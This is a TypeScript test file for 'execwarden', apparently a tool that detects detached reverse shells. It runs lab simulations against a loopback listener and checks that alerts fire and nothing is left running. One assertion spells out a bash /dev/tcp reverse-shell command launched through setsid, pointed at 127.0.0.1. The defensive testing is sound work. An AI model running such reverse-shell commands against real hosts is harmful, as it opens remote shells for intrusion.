/**
 * The simulations for real: each opens its listener, its payload reaches it (or, for look-alikes
 * without a connection, does not), and nothing is left running or listening afterwards.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { findPackageRoot } from '../../src/cli/install.js';
import { simulateAction } from '../../src/cli/simulate.js';
import { openLoopbackListener } from '../../src/lab/loopback-listener.js';
import { startExecStorm } from '../../src/lab/exec-storm.js';
import { findMarkedProcesses } from '../../src/lab/process-sweep.js';
import { runSimulation, selectVariants } from '../../src/lab/simulation.js';
import { findExecutable } from '../../src/lab/system-tools.js';
import { LAB_VARIANTS, missingTools, SEED_RULE_ID } from '../../src/lab/variants.js';
import { itWithTools } from '../support/require-tools.js';

/** .ci/run installs every tool the lab uses, launcher shells included: in CI none may be missing. */
const NOTHING_OPTIONAL: ReadonlySet<string> = new Set();

function refused(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = connect({ host: '127.0.0.1', port });
    socket.once('connect', () => {
      socket.destroy();
      resolve(false);
    });
    socket.once('error', () => resolve(true));
  });
}

function captureIo() {
  const stdout = new PassThrough();
  let text = '';
  stdout.on('data', (c: Buffer) => (text += c.toString()));
  return { io: { stdout, stderr: new PassThrough() }, text: () => text };
}

describe('the variant catalogue', () => {
  it('has unique names, covers setsid and nohup from bash and sh, and benign look-alikes', () => {
    const names = LAB_VARIANTS.map((v) => v.name);
    expect(new Set(names).size).toBe(names.length);
    for (const name of ['bash-setsid', 'bash-nohup', 'sh-setsid', 'dash-nohup', 'bash-setsid-fork', 'bash-setsid-absolute']) {
      expect(names).toContain(name);
    }
    expect(LAB_VARIANTS.filter((v) => v.mustNotFire === 'any').length).toBeGreaterThanOrEqual(3);
    expect(LAB_VARIANTS.filter((v) => Array.isArray(v.mustNotFire) && v.mustNotFire.includes(SEED_RULE_ID)).length).toBeGreaterThanOrEqual(4);
    for (const v of LAB_VARIANTS) {
      expect(v.expectAlert, v.name).toBe(v.mustFire.length > 0);
      expect(v.expectedRuleId, v.name).toBe(v.mustFire[0] ?? null);
    }
  });

  it('rejects unknown names with the list command as a hint', () => {
    expect(() => selectVariants(['bash-setsid', 'nope'])).toThrow(/unknown simulation "nope" \(see: execwarden simulate --list\)/);
  });

  it('puts the marker in the payload command line next to /dev/tcp and 0>&1', () => {
    const variant = selectVariants(['bash-setsid'])[0]!;
    const launch = variant.launch({ port: 4444, marker: 'lab-x-1', tool: (n) => `/usr/bin/${n}`, scratchDir: '/tmp/s' });
    expect(launch).toEqual({ file: '/usr/bin/bash', args: ['-c', "setsid bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 #lab-x-1'; exit 0"] });
  });
});

describe('running the simulations', () => {
  // Each variant reaches its listener (or, when it should not connect, does not), ends by itself
  // and leaves nothing behind. A missing interpreter skips its variants here, and fails them in CI.
  for (const variant of LAB_VARIANTS) {
    itWithTools(`${variant.name} behaves as designed and leaves nothing behind`, missingTools(variant), NOTHING_OPTIONAL, async () => {
      const result = await runSimulation(variant);
      expect(result.problem).toBeUndefined();
      expect(result.status).toBe('ran');
      expect(result.connections).toBe(variant.connects ? 1 : 0);
      // A shell that ran the listener's `exit` ends with the status of its last command, which is
      // the payload's business (telnet's banner lines are "not found"); it must only have ended.
      if (variant.connects) expect(result.exitCode).not.toBeNull();
      else expect(result.exitCode).toBe(0);
      expect(result.leftovers).toBe(0);
      expect(findMarkedProcesses(result.marker)).toEqual([]);
      expect(await refused(result.port), 'listener closed').toBe(true);
    });
  }

  it('finds bash and setsid wherever the tests run, so the seed variants are never all skipped', () => {
    expect(missingTools(selectVariants(['bash-setsid'])[0]!)).toEqual([]);
  });

  it('skips a variant whose tools are missing, naming them', async () => {
    const variant = { ...selectVariants(['bash-setsid'])[0]!, requires: ['bash', 'execwarden-lab-no-such-tool'] };
    const result = await runSimulation(variant);
    expect(result).toMatchObject({ status: 'skipped', skipReason: 'execwarden-lab-no-such-tool not installed', connections: 0 });
  });

  it('kills a payload that never ends, at the time limit', async () => {
    const variant = { ...selectVariants(['bash-setsid'])[0]!, connects: false };
    const hung = { ...variant, launch: () => ({ file: findExecutable('bash')!, args: ['-c', 'setsid sleep 30 & sleep 30'] }) };
    const result = await runSimulation(hung, { timeoutMs: 300 });
    expect(result.exitCode).toBeNull();
    expect(result.problem).toBe('the launcher did not finish in time');
    expect(result.leftovers).toBeGreaterThanOrEqual(1);
    expect(findMarkedProcesses(result.marker)).toEqual([]);
  });
});

describe('the loopback listener', () => {
  it('answers exit, counts the connection and closes', async () => {
    const listener = await openLoopbackListener();
    const received = await new Promise<string>((resolve) => {
      const socket = connect({ host: '127.0.0.1', port: listener.port });
      let data = '';
      socket.on('data', (c) => (data += c.toString()));
      socket.on('end', () => {
        socket.end();
        resolve(data);
      });
    });
    expect(received).toBe('exit\n');
    expect(await listener.waitForClosedConnections(1, 2000)).toBe(true);
    expect(listener.connections()).toBe(1);
    await listener.close();
    expect(await refused(listener.port)).toBe(true);
  });
});

describe('the exec storm', () => {
  it('runs its loops until stopped, then leaves nothing', async () => {
    const storm = startExecStorm(2);
    await new Promise((r) => setTimeout(r, 200));
    expect(findMarkedProcesses(storm.marker).length).toBeGreaterThanOrEqual(2);
    storm.stop();
    await new Promise((r) => setTimeout(r, 50));
    expect(findMarkedProcesses(storm.marker)).toEqual([]);
  });
});

describe('execwarden simulate', () => {
  it('--list names every variant with its expectation', async () => {
    const { io, text } = captureIo();
    const result = await simulateAction({ list: true, names: [] }, io);
    expect(result.exitCode).toBe(0);
    const lines = text().trimEnd().split('\n');
    expect(lines).toHaveLength(LAB_VARIANTS.length);
    expect(lines[0]).toMatch(/^bash-setsid\s+expects alert\s+bash runs setsid/);
    expect(text()).toMatch(/benign-nohup-plain\s+expects none/);
  });

  it('runs the named variants and reports the listener contact', async () => {
    const { io, text } = captureIo();
    const result = await simulateAction({ list: false, names: ['bash-setsid', 'benign-no-dev-tcp'] }, io);
    expect(result.exitCode).toBe(0);
    expect(text()).toMatch(/^ok {7}bash-setsid \(listener 127\.0\.0\.1:\d+ reached; should alert; marker lab-bash-setsid-[0-9a-f]{8}\)$/m);
    expect(text()).toMatch(/^ok {7}benign-no-dev-tcp \(no connection; should not alert;/m);
    expect(text()).toContain('2 simulation(s) run, 0 skipped, 0 failed');
  });
});

describe('rule ids the lab expects', () => {
  it('exist in the bundled rules', () => {
    const rulesDir = join(findPackageRoot(import.meta.url), 'rules');
    const ids = readdirSync(rulesDir)
      .filter((f) => f.endsWith('.toml'))
      .map((f) => /^rule_id = "([^"]+)"/m.exec(readFileSync(join(rulesDir, f), 'utf8'))?.[1]);
    const expected = new Set(LAB_VARIANTS.flatMap((v) => [...v.mustFire, ...(Array.isArray(v.mustNotFire) ? v.mustNotFire : [])]));
    for (const id of expected) expect(ids, id).toContain(id);
  });
});
